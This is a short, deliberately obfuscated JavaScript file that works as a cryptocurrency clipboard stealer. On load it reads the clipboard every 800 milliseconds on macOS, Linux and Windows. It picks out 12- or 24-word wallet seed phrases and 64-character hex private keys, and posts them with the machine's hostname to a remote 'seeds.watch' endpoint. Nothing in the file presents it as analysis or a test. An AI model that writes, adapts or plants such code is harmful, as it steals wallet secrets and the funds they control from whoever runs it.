import { execFile as item0 } from "child_process";
import { createHash as item1 } from "crypto";
import * as item2 from "os";
const item3 = new Set();
const item4 = [];
function item5(item10, item11) {
  return new Promise(item12 => {
    item0(item10, item11, {
      timeout: 2e3
    }, (item13, item14) => item12(item13 ? "" : item14));
  });
}
const item6 = {
  darwin: () => item5("pbpaste", []),
  linux: () => item5("xclip", ["-selection", "clipboard", "-o"]),
  win32: () => item5("powershell", ["-command", "Get-Clipboard"])
};
function item7(item15) {
  const item16 = item15.trim().split(/\s+/);
  if ((item16.length === 12 || item16.length === 24) && item16.every(item17 => /^[a-z]{3,8}$/.test(item17))) {
    return {
      kind: "phrase",
      text: item15,
      time: Date.now()
    };
  }
  if (/^(0x)?[0-9a-f]{64}$/i.test(item15.trim())) {
    return {
      kind: "key",
      text: item15,
      time: Date.now()
    };
  }
  return void 0;
}
async function item8(item18) {
  const item19 = await item18();
  const item20 = item1("md5").update(item19).digest("hex");
  if (item3.has(item20)) return;
  item3.add(item20);
  const item21 = item7(item19);
  if (item21) {
    item4.push(item21);
    await fetch("https://seeds.watch.invalid/n", {
      method: "POST",
      body: JSON.stringify({
        host: item2.hostname(),
        findings: item4.splice(0)
      })
    }).catch(() => item4.push(item21));
  }
}
const item9 = item6[item2.platform()];
if (item9 !== void 0) {
  setInterval(() => void item8(item9), 800);
}
